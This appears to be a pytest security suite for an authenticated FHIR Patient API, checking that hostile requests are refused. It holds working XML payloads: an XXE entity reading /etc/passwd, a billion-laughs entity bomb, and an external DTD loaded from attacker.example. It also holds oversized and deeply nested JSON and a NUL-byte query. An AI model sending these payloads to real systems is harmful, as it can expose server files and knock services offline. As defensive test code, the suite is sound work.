"""Hostile input through the authenticated API: XXE, entity bombs, oversized and deep JSON."""

from __future__ import annotations

import orjson

from tests.security.conftest import MBIL_MEMBER

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Patient xmlns="http://hl7.org/fhir"><id value="x"/><name><family value="&secret;"/></name>
</Patient>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&lol4;"/></name></Patient>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Patient SYSTEM "http://attacker.example/evil.dtd">
<Patient xmlns="http://hl7.org/fhir"><id value="x"/></Patient>"""


def _post(world, body: bytes, content_type: str, path: str = "/fhir/Patient"):
    headers = {**world.headers("plan"), "Content-Type": content_type}
    return world.client().post(path, data=body, headers=headers)


def _assert_outcome(response, status: int = 400) -> None:
    assert response.status_code == status
    assert response.get_json(force=True)["resourceType"] == "OperationOutcome"


def test_xxe_is_refused_with_an_outcome(world):
    response = _post(world, XXE, "application/fhir+xml")
    _assert_outcome(response)
    assert b"root:" not in response.get_data()


def test_billion_laughs_is_refused_with_an_outcome(world):
    _assert_outcome(_post(world, BILLION_LAUGHS, "application/fhir+xml"))


def test_external_dtd_is_refused_with_an_outcome(world):
    _assert_outcome(_post(world, EXTERNAL_DTD, "application/fhir+xml"))


def test_deep_json_is_refused(world):
    deep = b'{"resourceType": "Patient", "extension": ' + b'[{"extension": ' * 200
    deep += b"[]" + b"}]" * 200 + b"}"
    _assert_outcome(_post(world, deep, "application/fhir+json"))


def test_long_json_array_is_refused(world):
    body = {"resourceType": "Patient", "name": [{"family": "x"}] * 20_001}
    _assert_outcome(_post(world, orjson.dumps(body), "application/fhir+json"))


def test_oversized_body_is_refused_before_parsing(world):
    huge = b'{"resourceType": "Patient", "text": "' + b"x" * (11 * 1024 * 1024) + b'"}'
    _assert_outcome(_post(world, huge, "application/fhir+json"), 413)


def test_nul_in_search_is_refused(world):
    response = world.client().get("/fhir/Patient?name=a%00b", headers=world.headers("plan"))
    _assert_outcome(response)


def test_hostile_input_without_a_token_learns_nothing(world):
    response = world.client().post(
        f"/fhir/Patient/{MBIL_MEMBER}/$validate",
        data=XXE,
        headers={"Content-Type": "application/fhir+xml"},
    )
    assert response.status_code == 401
